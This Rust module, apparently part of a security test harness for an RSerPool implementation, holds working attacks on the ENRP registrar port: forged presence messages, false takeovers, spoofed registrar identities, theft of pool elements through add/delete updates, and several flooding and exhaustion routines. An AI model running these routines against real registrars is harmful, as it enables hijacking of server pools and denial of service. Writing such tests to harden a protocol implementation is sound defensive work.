//! Attacks at the ENRP port.

use std::net::Ipv4Addr;
use std::time::Duration;

use anyhow::Context as _;
use rserpool::wire::Message;
use rserpool::wire::enrp::{
    Body, Enrp, ListResponse, Presence, TableRequest, Takeover, Update, UpdateAction,
};
use rserpool::wire::param::{
    PeId, PoolHandle, RegistrarId, SctpTransport, ServerInformation, TransportUse,
};
use tokio::time::sleep;

use super::Sent;
use super::honest::told;
use super::stranger::{Host, Stranger};
use super::target::Aim;

/// Who the attacker says it is, where it is not another one.
const NOBODY: u32 = 0x66;
/// Registrars that do not exist.
const SEATS: u32 = 300;
const SERVERS: u32 = 100;
/// Elements that do not exist.
const INVENTED: u32 = 5000;
/// Downloads that do not go on.
const OBSERVERS: usize = 80;
/// Between two rounds of what need not come quickly.
const PAUSE: Duration = Duration::from_millis(20);
/// Port 9 discards.
const NOWHERE: u16 = 9;

fn id(number: u32) -> anyhow::Result<RegistrarId> {
    RegistrarId::new(number).context("no identifier")
}

fn server(id: RegistrarId, last: u8) -> ServerInformation {
    let transport = SctpTransport {
        port: NOWHERE,
        transport_use: TransportUse::DataOnly,
        addresses: [Ipv4Addr::new(127, 0, 1, last).into()].as_slice().into(),
    };
    ServerInformation { id: Some(id), transport }
}

fn from(sender: Option<RegistrarId>, receiver: RegistrarId, body: Body) -> Vec<u8> {
    Message::from(Enrp { sender, receiver: Some(receiver), body }).encode()
}

/// What a registrar says first.
fn presence(aim: &Aim, sender: RegistrarId) -> Vec<u8> {
    let server = Some(server(sender, 66));
    let presence = Presence { reply_required: true, checksum: None, server };
    from(Some(sender), aim.id, Body::Presence(presence))
}

fn update(
    aim: &Aim,
    sender: RegistrarId,
    action: UpdateAction,
    of: (&PoolHandle, PeId, u16),
) -> anyhow::Result<Vec<u8>> {
    let (handle, element, port) = of;
    let transport = rserpool::wire::param::Transport::Tcp {
        port,
        transport_use: TransportUse::DataOnly,
        address: Host::Hostile.address(),
    };
    let element = told(element, sender, transport)?;
    let update = Update { takeover_suggested: false, action, handle: handle.clone(), element };
    Ok(from(Some(sender), aim.id, Body::Update(update)))
}

pub(super) async fn own_takeover(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let nobody = id(NOBODY)?;
    let takeover = Body::TakeoverDone(Takeover { target: Some(aim.id) });
    let octets = from(Some(nobody), aim.id, takeover);
    let greeting = presence(aim, nobody);
    Stranger::flood(Host::Hostile, aim.enrp, &greeting, sent, |_| octets.clone()).await
}

/// Moves and deletes, element by element.
fn theft(aim: &Aim, sender: RegistrarId) -> anyhow::Result<Vec<u8>> {
    let mut octets = Vec::new();
    for (element, port) in &aim.elements {
        for action in [UpdateAction::AddElement, UpdateAction::DeleteElement] {
            octets.extend(update(aim, sender, action, (&aim.pool, *element, *port))?);
        }
    }
    Ok(octets)
}

async fn again_and_again(aim: &Aim, sent: &Sent, octets: Vec<u8>) -> anyhow::Result<()> {
    loop {
        if let Ok(mut stranger) = Stranger::dial(Host::Hostile, aim.enrp).await {
            while stranger.say_octets(&octets).await.is_ok() {
                sent.add(1);
                sleep(PAUSE).await;
            }
        }
        sleep(PAUSE).await;
    }
}

pub(super) async fn stolen_elements(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let nobody = id(NOBODY)?;
    again_and_again(aim, sent, [presence(aim, nobody), theft(aim, nobody)?].concat()).await
}

pub(super) async fn false_takeover(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let nobody = id(NOBODY)?;
    let target = Takeover { target: Some(aim.second) };
    let octets = [
        presence(aim, nobody),
        from(Some(nobody), aim.id, Body::TakeoverInit(target)),
        from(Some(nobody), aim.id, Body::TakeoverDone(target)),
        theft(aim, nobody)?,
    ];
    again_and_again(aim, sent, octets.concat()).await
}

pub(super) async fn borrowed_id(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    again_and_again(aim, sent, [presence(aim, aim.second), theft(aim, aim.second)?].concat()).await
}

pub(super) async fn seats(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let first = 0x1000;
    loop {
        let mut crowd = Vec::new();
        for number in first..first + SEATS {
            if let Ok(mut stranger) = Stranger::dial(Host::Hostile, aim.enrp).await
                && stranger.say_octets(&presence(aim, id(number)?)).await.is_ok()
            {
                sent.add(1);
                crowd.push(stranger);
            }
        }
        sleep(Duration::from_secs(1)).await;
    }
}

pub(super) async fn servers(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let nobody = id(NOBODY)?;
    let mut servers = Vec::new();
    for number in 1..=SERVERS {
        servers.push(server(id(0x2000 + number)?, u8::try_from(number)?));
    }
    let list = Body::ListResponse(ListResponse { rejected: false, servers });
    let octets = [presence(aim, nobody), from(Some(nobody), aim.id, list)];
    again_and_again(aim, sent, octets.concat()).await
}

pub(super) async fn invented(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let nobody = id(NOBODY)?;
    let pool = PoolHandle::new("Invented").context("no pool handle")?;
    loop {
        if let Ok(mut stranger) = Stranger::dial(Host::Hostile, aim.enrp).await {
            let mut octets = presence(aim, nobody);
            for number in 1..=INVENTED {
                let element = (&pool, PeId(number), NOWHERE);
                octets.extend(update(aim, nobody, UpdateAction::AddElement, element)?);
            }
            if stranger.say_octets(&octets).await.is_ok() {
                sent.add(INVENTED.into());
            }
        }
        // Silence: whoever believes in that registrar takes it over.
        sleep(Duration::from_secs(3)).await;
    }
}

pub(super) async fn observers(aim: &Aim, sent: &Sent) -> anyhow::Result<()> {
    let request = from(None, aim.id, Body::TableRequest(TableRequest { own_only: false }));
    loop {
        let ask = |_| request.clone();
        let _crowd = Stranger::crowd(Host::Hostile, aim.enrp, OBSERVERS, sent, ask).await;
        sleep(Duration::from_secs(1)).await;
    }
}
